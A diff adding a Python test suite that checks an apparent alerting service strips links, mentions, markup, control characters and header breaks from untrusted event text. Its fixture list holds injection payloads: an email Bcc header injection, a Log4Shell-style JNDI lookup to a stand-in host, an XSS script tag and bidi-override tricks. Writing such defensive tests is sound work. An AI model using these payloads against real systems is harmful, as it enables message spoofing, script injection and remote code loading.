@@ -1,0 +1,143 @@
+"""Whatever others wrote into a name, people read it as text: no header, link, mention, markup or hidden character."""
+
+import json
+import re
+import unicodedata
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from alerting.alert_envelope import bus_event
+from alerting.domain.chat import notification
+from alerting.domain.foreign_text import MAX_SUBJECT, Sentence, clean, code_span, is_clean, subject, without_links
+from alerting.domain.mail import WITHHELD, body_of, safe_command, subject_of
+from alerting.domain.wording import alert_of
+from tests.published_events import NAMES, golden_event
+
+NASTY = [
+    "a\r\nBcc: everybody@example.com",
+    "<!channel> <@U123> <https://evil.example|your report>",
+    "*bold* _it_ ~no~ `code` ```block``` > quote",
+    "[click](https://evil.example) ![x](https://evil.example/x.png) # heading",
+    "pay\u202ecod.exe \u2066hidden\u2069 \u200bzero \ufeffbom",
+    "\x00\x07\x1b[31mred\x1b[0m\x7f\x85",
+    "\u2028line\u2029paragraph",
+    "{} {0} {body.__class__} %s ${jndi:ldap://evil}",
+    "@everyone @here @channel",
+    "<script>alert(1)</script> &lt;b&gt;",
+    "\ud800",
+    "x" * 5_000,
+    "\u202e" * 5_000,
+]
+HOSTILE = st.one_of(st.sampled_from(NASTY), st.text(max_size=700), st.characters(categories=["Cs", "Cf", "Cc"]))
+
+
+def said_by_others(value, text):
+    """An event's data, with this text in the place of every text in it."""
+    match value:
+        case dict():
+            return {key: said_by_others(item, text) for key, item in value.items()}
+        case list():
+            return [said_by_others(item, text) for item in value]
+        case str():
+            return text
+    return value
+
+
+def hostile_alert(name, text):
+    event = golden_event(name)
+    event["detail"]["data"] = said_by_others(event["detail"]["data"], text)
+    return alert_of(bus_event(event))
+
+
+@given(HOSTILE)
+def test_a_cleaned_text_is_one_line_of_characters_that_show(text):
+    shown = clean(text)
+
+    assert is_clean(shown)
+    assert len(shown) <= 500
+    assert shown.splitlines() in ([], [shown])
+
+
+@given(HOSTILE)
+def test_code_for_chat_cannot_be_left_and_holds_no_control_sequence(text):
+    inside = code_span(text)[1:-1]
+
+    assert inside
+    assert not set("<>`\n") & set(inside)
+    assert re.sub(r"&(amp|lt|gt);", "", inside).count("&") == 0
+
+
+@given(HOSTILE)
+def test_a_subject_is_a_header_of_its_own_and_of_a_length_that_sns_takes(text):
+    made = subject(text)
+
+    assert 1 <= len(made) <= MAX_SUBJECT
+    assert all(" " <= character <= "~" for character in made)
+
+
+@pytest.mark.parametrize("text", ["https://evil.example", "ftp://x", "www.evil.example", "wWw.evil.example"])
+def test_no_link_is_left_for_a_mail_program_to_find(text):
+    shown = without_links(text)
+
+    assert "://" not in shown
+    assert "www." not in shown.lower()
+    assert without_links(shown) == shown
+
+
+@given(st.sampled_from(NAMES), HOSTILE)
+def test_every_mail_keeps_its_form_whatever_the_event_says(name, text):
+    alert = hostile_alert(name, text)
+
+    mail, header = body_of(alert), subject_of(alert)
+
+    assert "\r" not in mail
+    assert all(
+        unicodedata.category(character) not in {"Cc", "Cf", "Cs", "Zl", "Zp"} for character in mail if character != "\n"
+    )
+    assert not re.search(r"(?im)^(bcc|to|cc|content-type):", mail)
+    assert not any("://" in line for line in mail.splitlines() if not line.startswith("    "))  # commands are as pasted
+    assert "\n" not in header
+
+
+@given(st.sampled_from(NAMES), HOSTILE)
+def test_every_chat_message_has_others_words_in_code_only(name, text):
+    told = notification(hostile_alert(name, text))
+
+    shown = [told["content"]["title"], told["content"]["description"], *told["content"]["nextSteps"]]
+    for text_of_ours in (re.sub(r"`[^`\n]*`", "", part) for part in shown):
+        assert "`" not in text_of_ours
+        assert not set("<>@") & set(text_of_ours)
+        assert "://" not in text_of_ours
+        assert "evil" not in text_of_ours
+    assert all(is_clean(part.replace("\n", "")) for part in shown)
+
+
+@given(st.sampled_from(NAMES), HOSTILE)
+def test_a_message_with_both_texts_fits_into_sns(name, text):
+    """256 KiB: https://docs.aws.amazon.com/sns/latest/api/API_Publish.html."""
+    alert = hostile_alert(name, text)
+
+    both = json.dumps({"default": body_of(alert), "https": json.dumps(notification(alert))}, ensure_ascii=False)
+
+    assert len(both.encode("utf-8", "surrogatepass")) < 256 * 1024
+
+
+@given(HOSTILE)
+def test_a_command_is_shown_as_it_would_be_pasted_or_not_at_all(text):
+    shown = safe_command(f"aws iam get-role --role-name {text}")
+
+    assert shown is None or (shown.endswith(text) and is_clean(shown))
+
+
+def test_a_command_with_characters_that_do_not_show_is_withheld_and_said_so():
+    event = golden_event("PolicyDriftDetected", revert=["aws iam delete-role --role-name x\u202e", "aws iam ok"])
+
+    mail = body_of(alert_of(bus_event(event)))
+
+    assert f"    {WITHHELD}\n    aws iam ok\n" in mail
+
+
+def test_our_words_stay_ours_when_others_write_braces():
+    assert Sentence.of("{} did {}", "{1}", "{0.x}").plain() == "{1} did {0.x}"
